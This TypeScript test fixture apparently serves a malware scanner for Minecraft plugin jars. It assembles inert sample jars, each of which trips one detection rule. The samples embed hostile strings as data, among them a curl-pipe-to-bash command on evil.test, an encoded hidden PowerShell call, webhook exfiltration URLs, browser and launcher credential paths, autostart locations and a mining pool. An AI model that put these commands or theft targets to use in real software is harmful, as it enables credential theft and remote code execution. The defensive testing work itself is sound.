import type { SafetyRule } from '../../../contract/inspection.ts'
import { all, call, classDoing, hiddenString, ldc, makeClass } from './class.fixture.ts'
import { calls, jarOf } from './jar.fixture.ts'
import { makeZip, zipOf } from './zip.fixture.ts'

/** Assembled for the tests: each shows what a rule looks for and does nothing. */
export type BadJar = [what: string, jar: () => Buffer, rule: SafetyRule]

const main = (bytes: Buffer) => () => jarOf({ 'com/acme/Main.class': bytes })
const doing = (calls: string[], texts: string[] = []) => main(classDoing(calls, texts))

const base64 = (text: string) => Buffer.from(text).toString('base64')
const hex = '5a1c9e0f'.repeat(4)

/** The shape of the first stage of 2023: a method of 32 digits, called when the class is loaded. */
export const stageZero = makeClass({
  name: 'com/acme/Main',
  methods: [
    {
      name: '<clinit>',
      access: 8,
      code: (pool) => {
        const at = pool.member('com/acme/Main', `_${hex}`, '()V')
        return [0xb8, at >> 8, at & 255]
      },
    },
    {
      name: `_${hex}`,
      access: 8,
      code: all(
        hiddenString('http://198.51.100.7:8080/dl'),
        call(calls.loader),
        hiddenString('Utility'),
        call(calls.forName),
        call(calls.invoke),
      ),
    },
  ],
})

const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(200)])
const inner = (bytes: Buffer) => zipOf({ 'com/acme/Inner.class': bytes })

export const badJars: BadJar[] = [
  ['starts a program', doing([calls.exec]), 'process'],
  ['starts a program with a builder', doing([calls.builder]), 'process'],
  [
    'starts a program by reflection',
    doing([calls.forName, calls.invoke], ['java.lang.Runtime', 'exec']),
    'process',
  ],
  [
    'starts a program by a hidden name',
    main(
      makeClass({
        methods: [{ code: all(hiddenString('java.lang.Runtime'), call(calls.forName), call(calls.invoke)) }],
      }),
    ),
    'process',
  ],
  ['makes players operators', doing([calls.setOp]), 'operator'],
  ['writes jars', doing([calls.jarOut]), 'jar_writing'],
  ['names a miner', doing([], ['java -jar xmrig.jar']), 'miner'],
  ['names a mining pool', doing([], ['stratum+tcp://pool.acme.test:3333']), 'miner'],
  [
    'hides code in a bridge',
    main(makeClass({ methods: [{ access: 0x1041, code: () => Array<number>(400).fill(0) }] })),
    'bridge_method',
  ],
  ['loads classes from addresses', doing([calls.loader]), 'class_loading'],
  ['defines classes of bytes', doing([calls.define]), 'class_loading'],
  ['is a loader itself', main(makeClass({ parent: 'java/net/URLClassLoader' })), 'class_loading'],
  ['adds addresses by reflection', doing([calls.forName, calls.invoke], ['addURL']), 'class_loading'],
  ['connects to a number', doing([calls.socket], ['203.0.113.9']), 'bare_address'],
  ['asks the net which command to run', doing([calls.openStream, calls.dispatch]), 'console_command'],
  ['makes an operator by command', doing([calls.dispatch], ['op ']), 'console_command'],
  [
    'loads other plugins',
    doing(['org/bukkit/plugin/PluginManager.loadPlugin(Ljava/io/File;)Lorg/bukkit/plugin/Plugin;']),
    'plugin_loading',
  ],
  [
    'hides a text in bytes',
    main(makeClass({ methods: [{ code: hiddenString('cmd payload') }] })),
    'hidden_strings',
  ],
  [
    'hides an address in Base64',
    doing([calls.decode], [base64('https://evil.test/payload.jar')]),
    'hidden_strings',
  ],
  ['looks like the first stage', main(stageZero), 'stage_zero'],
  [
    'has only the method of the first stage',
    main(makeClass({ methods: [{ name: `_${hex}`, access: 8, code: () => [] }] })),
    'stage_zero',
  ],
  ['fetches from a number', doing([], ['http://203.0.113.9:8080/x']), 'bare_address'],
  ['runs what it decodes', doing([calls.exec, calls.decode]), 'encoded_process'],
  ['writes into every jar it finds', doing([calls.walk, calls.jarOut]), 'jar_infector'],
  ['settles in the registry', doing([], ['Software\\Microsoft\\Windows\\CurrentVersion\\Run']), 'autostart'],
  ['settles in systemd', doing([], ['/etc/systemd/system/update.service']), 'autostart'],
  [
    'settles in the menu',
    doing([], ['AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup']),
    'autostart',
  ],
  [
    'reports to a channel',
    doing([], [`https://discord.com/api/webhooks/123456789012345678/${'aB3'.repeat(20)}`]),
    'webhook',
  ],
  [
    'reports to a bot',
    doing([], [`https://api.telegram.org/bot123456789:${'aB3'.repeat(10)}/sendMessage`]),
    'webhook',
  ],
  ['reads the accounts of launchers', doing([], ['.minecraft/launcher_accounts.json']), 'session_theft'],
  [
    'reads the passwords of browsers',
    doing([], ['Google\\Chrome\\User Data\\Default\\Login Data']),
    'session_theft',
  ],
  [
    'sends the session away',
    doing(['net/minecraft/client/User.getAccessToken()Ljava/lang/String;', calls.openConnection]),
    'session_theft',
  ],
  [
    'starts as an agent',
    () => jarOf({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\r\nPremain-Class: com.acme.Agent\r\n' }),
    'agent',
  ],
  [
    'attaches to other programs',
    doing([
      'com/sun/tools/attach/VirtualMachine.attach(Ljava/lang/String;)Lcom/sun/tools/attach/VirtualMachine;',
    ]),
    'agent',
  ],
  ['carries a program of Windows', () => jarOf({ 'tools/helper.exe': 'x' }), 'executable_inside'],
  ['carries a program of Linux as data', () => jarOf({ 'assets/data.bin': elf }), 'executable_inside'],
  [
    'loads from a hidden address',
    main(makeClass({ methods: [{ code: all(hiddenString('https://evil.test/a'), call(calls.loader)) }] })),
    'remote_code',
  ],
  [
    'defines what it fetched and decoded',
    doing([calls.define, calls.openStream, calls.decode]),
    'remote_code',
  ],
  ['speaks to the shell', doing([], ['powershell -nop -w hidden -enc SQBFAFgA']), 'shell_command'],
  ['pipes into the shell', doing([], ['curl -s https://evil.test/i.sh | bash']), 'shell_command'],
  ['takes objects from a socket', doing([calls.readObject, calls.socket]), 'remote_objects'],
  ['decrypts its own code', doing([calls.cipher, calls.define]), 'encrypted_code'],
  [
    'hides behind the name of a library',
    () =>
      jarOf({
        'org/sqlite/util/OSInfo.class': classDoing(
          [calls.exec, calls.openStream],
          [],
          'org/sqlite/util/OSInfo',
        ),
      }),
    'process',
  ],
  [
    'hides behind the name of a known file',
    () => jarOf({ 'DebugProbesKt.bin': makeClass({ name: 'com/acme/Evil' }) }),
    'disguised_code',
  ],
  ['carries a class as a picture', () => jarOf({ 'assets/logo.png': makeClass() }), 'disguised_code'],
  ['carries an archive as a text', () => jarOf({ 'lang/en.json': inner(makeClass()) }), 'disguised_code'],
  ['has a class nobody can read', main(makeClass().subarray(0, 60)), 'damaged_class'],
  ['has a class that is none', main(Buffer.from('hello')), 'damaged_class'],
  ['has a class with more behind it', main(Buffer.concat([makeClass(), Buffer.from('x')])), 'damaged_class'],
  ['has code that is none', main(makeClass({ methods: [{ code: () => [0xfe] }] })), 'damaged_class'],
  [
    'carries an archive of another kind',
    () => jarOf({ 'libs/a.7z': Buffer.from('7z\xbc\xaf\x27\x1c      ', 'latin1') }),
    'unread_archive',
  ],
  [
    'carries a locked archive',
    () => jarOf({ 'libs/a.zip': makeZip([{ name: 'x', data: 'y', flags: 0x801 }]) }),
    'unread_archive',
  ],
  [
    'hides the first stage in a jar',
    () => jarOf({ 'META-INF/jars/lib.jar': zipOf({ 'com/acme/Main.class': stageZero }) }),
    'stage_zero',
  ],
  [
    'hides it two jars deep',
    () =>
      jarOf({
        'META-INF/jars/lib.jar': zipOf({
          'META-INF/jars/x.jar': inner(classDoing([calls.exec], [], 'com/acme/Inner')),
        }),
      }),
    'process',
  ],
  [
    'hides it in an archive without its ending',
    () => jarOf({ 'data/blob': inner(classDoing([calls.exec], [], 'com/acme/Inner')) }),
    'process',
  ],
  [
    'shares the work among inner classes',
    () =>
      jarOf({
        'com/acme/Main.class': classDoing([calls.exec]),
        'com/acme/Main$1.class': classDoing([calls.decode], [], 'com/acme/Main$1'),
      }),
    'encoded_process',
  ],
  [
    'builds texts of letters',
    main(
      makeClass({
        methods: [
          {
            code: all(ldc('x'), (pool) => {
              const at = pool.member('java/lang/String', 'valueOf', '([C)Ljava/lang/String;')
              const letters = [...Buffer.from('java.lang')]
              return [
                0x10,
                letters.length,
                0xbc,
                5,
                ...letters.flatMap((letter, index) => [0x59, 0x10, index, 0x10, letter, 0x55]),
                0xb8,
                at >> 8,
                at & 255,
              ]
            }),
          },
        ],
      }),
    ),
    'hidden_strings',
  ],
]
